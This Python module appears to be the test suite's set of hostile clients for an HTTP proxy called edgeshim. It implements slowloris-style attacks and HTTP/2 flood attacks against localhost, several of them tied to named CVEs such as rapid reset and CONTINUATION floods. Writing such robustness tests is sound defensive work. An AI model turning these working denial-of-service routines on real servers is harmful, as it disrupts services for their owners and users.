"""Hostile clients. Each attack is a function that starts the attack and returns its connections. An attack lasts for SECONDS at most; afterwards
its connections stay open until edgeshim closes them. `count` is the number of connections of the attacks that need many.

This file is not executable, so that tests/run does not run it as a test.
"""

import contextlib
import itertools
import socket
import struct
import time

SECONDS = 1

HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, DATA, PRIORITY = 1, 3, 4, 6, 8, 9, 0, 2
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# In HPACK: GET and http from the static table, then the literal values of :path and :authority.
HEAD = b"\x82\x86\x04\x06/small\x01\x01a"
LARGE = b"\x82\x86\x04\x06/large\x01\x01a"
POST = b"\x83\x86\x04\x06/small\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def connect(port, receive_buffer=None):
    connection = socket.socket()
    if receive_buffer:
        # The buffer must be set before the connect, because the first packet fixes the window scale.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.settimeout(120)
    connection.connect(("127.0.0.1", port))
    return connection


def silent(port, count):
    """Connections that send nothing."""
    return [connect(port) for _ in range(count)]


def slow_heads(port, count):
    """Heads that never end. One field arrives each half second."""
    return drip([connect(port) for _ in range(count)], b"GET /small HTTP/1.1\r\nHost: a\r\n", b"X-A: b\r\n")


def slow_bodies(port, count):
    """Request bodies that stop after their first byte."""
    connections = [connect(port) for _ in range(count)]
    for connection in connections:
        send(connection, b"POST /small HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\na")
    return connections


def slow_readers(port, count):
    """Clients that request a large body and do not read it."""
    connections = [connect(port, 4096) for _ in range(count)]
    for connection in connections:
        send(connection, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n")
    return connections


def endless_field(port, _count):
    """Heads with one field that does not end."""
    return flood(port, b"GET /small HTTP/1.1\r\nHost: a\r\nX-A: ", lambda: endless(b"a" * 65536))


def endless_fields(port, _count):
    """Heads with an endless number of fields."""
    return flood(port, b"GET /small HTTP/1.1\r\nHost: a\r\n", lambda: endless(b"X-A: b\r\n" * 4096))


def endless_extension(port, _count):
    """Chunked request bodies with a chunk extension that does not end."""
    return flood(port, b"POST /small HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;", lambda: endless(b"a" * 65536))


def endless_trailers(port, _count):
    """Chunked request bodies with endless trailers."""
    return flood(port, b"POST /small HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", lambda: endless(b"X-A: b\r\n" * 4096))


def empty_lines(port, _count):
    """Endless empty lines before the request line."""
    return flood(port, b"", lambda: endless(b"\r\n" * 4096))


def rapid_reset(port, _count):
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    return flood_http2(port, lambda: (frame(HEADERS, 5, number, HEAD) + frame(RST_STREAM, 0, number, b"\0\0\0\x08") for number in range(1, 1 << 20, 2)))


def made_you_reset(port, _count):
    """Streams that edgeshim must reset, because each gets an invalid frame (CVE-2025-8671)."""
    return flood_http2(port, lambda: (frame(HEADERS, 5, number, HEAD) + frame(WINDOW_UPDATE, 0, number, b"\0\0\0\0") for number in range(1, 1 << 20, 2)))


def continuation(port, _count):
    """A header block that does not end (CVE-2024-27316)."""

    def frames():
        yield frame(HEADERS, 0, 1, HEAD)
        while True:
            yield frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x01b" * 100)

    return flood_http2(port, frames)


def empty_continuation(port, _count):
    """An endless header block of empty CONTINUATION frames."""

    def frames():
        yield frame(HEADERS, 0, 1, HEAD)
        while True:
            yield frame(CONTINUATION, 0, 1)

    return flood_http2(port, frames)


def settings(port, _count):
    """Endless SETTINGS frames, each of which needs an acknowledgement (CVE-2019-9515)."""
    return flood_http2(port, lambda: endless(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")))


def pings(port, _count):
    """Endless PING frames, each of which needs a response (CVE-2019-9512)."""
    return flood_http2(port, lambda: endless(frame(PING, 0, 0, b"12345678")))


def priorities(port, _count):
    """Endless PRIORITY frames (CVE-2019-9513)."""
    return flood_http2(port, lambda: endless(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10")))


def empty_data(port, _count):
    """Endless empty DATA frames in one request (CVE-2019-9518)."""

    def frames():
        yield frame(HEADERS, 4, 1, POST)
        while True:
            yield frame(DATA, 0, 1)

    return flood_http2(port, frames)


def padded_data(port, _count):
    """Endless DATA frames that have only padding."""

    def frames():
        yield frame(HEADERS, 4, 1, POST)
        while True:
            yield frame(DATA, 8, 1, b"\0")

    return flood_http2(port, frames)


def window_updates(port, _count):
    """Endless WINDOW_UPDATE frames."""
    return flood_http2(port, lambda: endless(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")))


def table_bomb(port, _count):
    """A header block that repeats a large entry of the HPACK table (CVE-2016-6581)."""
    literal = b"\x40\x03x-a\x7f\x81\x1e" + b"a" * 4000

    def frames():
        for number in range(1, 1 << 20, 2):
            yield frame(HEADERS, 5, number, HEAD + literal + b"\xbe" * 12_000)

    return flood_http2(port, frames)


def closed_windows(port, count):
    """Streams whose windows stay closed, so that their bodies cannot be sent (CVE-2019-9517)."""
    connections = [connect(port) for _ in range(max(count // 50, 1))]
    for connection in connections:
        send(connection, PREFACE + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"))
        for number in range(100):
            send(connection, frame(HEADERS, 5, 2 * number + 1, LARGE))
    return connections


ATTACKS = (
    silent, slow_heads, slow_bodies, slow_readers, endless_field, endless_fields, endless_extension, endless_trailers, empty_lines,
    rapid_reset, made_you_reset, continuation, empty_continuation, settings, pings, priorities, empty_data, padded_data, window_updates,
    table_bomb, closed_windows,
)


def send(connection, data):
    """Sends bytes. Returns False if the peer has closed the connection, which is a valid end of an attack."""
    try:
        connection.sendall(data)
    except OSError:
        return False
    return True


def drip(connections, first, piece):
    """Sends `first` and then, for SECONDS seconds, a piece each half second."""
    for connection in connections:
        send(connection, first)
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        for connection in connections:
            send(connection, piece)
        time.sleep(0.5)
    return connections


def endless(piece):
    while True:
        yield piece


def flood_http2(port, frames):
    """Like `flood`, with HTTP/2 frames after the preface. `frames` is called once for each connection and returns its frames."""
    return flood(port, PREFACE + frame(SETTINGS, 0, 0), lambda: blocks(frames()))


def blocks(frames, size=64):
    """Joins frames, so that one system call sends many frames."""
    while block := b"".join(itertools.islice(frames, size)):
        yield block


def flood(port, first, pieces):
    """Sends endless data on four connections for SECONDS seconds. Two of the connections also read and discard what edgeshim sends; the
    other two read nothing. `pieces` is called once for each connection and returns its data."""
    connections = [connect(port) for _ in range(4)]
    live = {connection: [first, pieces()] for connection in connections}
    for connection in connections:
        connection.setblocking(False)
    end = time.monotonic() + SECONDS
    while live and time.monotonic() < end:
        moved = False
        for number, connection in enumerate(connections):
            if connection not in live:
                continue
            left, more = live[connection]
            try:
                sent = connection.send(left)
                live[connection][0] = left[sent:] or next(more, b"")
                moved = True
            except BlockingIOError:
                pass
            except OSError:
                del live[connection]
                continue
            if number % 2 == 0:
                with contextlib.suppress(OSError):
                    connection.recv(65536)
        if not moved:
            time.sleep(0.001)
    return connections
